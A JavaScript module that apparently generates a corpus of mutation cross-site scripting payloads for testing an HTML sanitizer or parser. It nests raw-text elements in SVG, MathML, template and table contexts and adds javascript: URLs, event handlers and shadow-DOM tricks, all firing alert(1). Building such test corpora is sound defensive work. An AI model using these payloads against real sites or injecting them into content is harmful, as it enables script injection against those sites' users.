// Our own payloads: markup that means something else when it is parsed again, or by a parser in another mode.

const script = 'alert(1)';
const image = `<img src=x onerror=${script}>`;

/** Elements whose contents are text for one parser, and markup for another. */
const texts = [
  'noscript',
  'style',
  'xmp',
  'title',
  'textarea',
  'noembed',
  'noframes',
  'iframe',
  'plaintext',
  'script',
];

/** Foreign elements around such an element. */
const places = [
  ['', ''],
  ['<svg>', '</svg>'],
  ['<math>', '</math>'],
  ['<math><mtext>', ''],
  ['<svg><foreignObject>', ''],
  ['<svg><desc>', ''],
  ['<math><annotation-xml encoding=text/html>', ''],
  ['<form><math><mtext></form><form><mglyph>', ''],
  ['<template>', '</template>'],
  ['<select>', '</select>'],
  ['<table>', '</table>'],
]; // biome-ignore format: a table

const breakouts = (name) => [
  `<${name}>${image}</${name}>`,
  `<${name}><p title="</${name}>${image}">`,
  `<${name}><!--</${name}>${image}-->`,
  `<${name}><style></${name}>${image}</style>`,
  `<${name}><a title="&lt;/${name}>${image}">`,
];

const single = [
  `<svg></p><style><a id="</style>${image}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
  `<math><mi><table><mi><mglyph><style><math>${image}`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<svg><style><!--</style>${image}--></style>`,
  `<select><template><style><!--</select><a rel="--></style></template></select>${image}">`,
  `<a href="javascript:${script}">x</a><a href="java\nscript:${script}">x</a><a href="\x01javascript:${script}">x</a>`,
  `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
  `<math><mi href="javascript:${script}">x</mi></math>`,
  `<svg><a><animate attributeName=href values="javascript:${script}"/><text>x</text></a></svg>`,
  `<form action="javascript:${script}"><button>x</button></form><button form=f formaction="javascript:${script}">x</button>`,
  `<details open ontoggle=${script}>x</details><input autofocus onfocus=${script}>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe><object data="javascript:${script}"></object>`,
  `<base href="javascript:${script}//"><a href=x>x</a>`,
  `<div><template shadowrootmode=open>${image}</template></div>`,
  `<div><template shadowrootmode=closed><a href="javascript:${script}">x</a></template></div>`,
  `<table><td><table><style></table>${image}</style>`,
  `<p><table>${image}<tr><style></p>${image}`,
  `<pre>\n\n${image}</pre><listing>\n${image}`,
  `<?x ?>${image}?><!DOCTYPE x ">${image}"><![CDATA[${image}]]>`,
  `<svg><![CDATA[</svg>${image}]]></svg>`,
]; // biome-ignore format: a table

export const ownPayloads = [
  ...single,
  ...texts.flatMap((name) =>
    places.flatMap(([before, after]) => breakouts(name).map((text) => before + text + after)),
  ),
].map((payload, index) => ({ id: `own-${index}`, payload }));
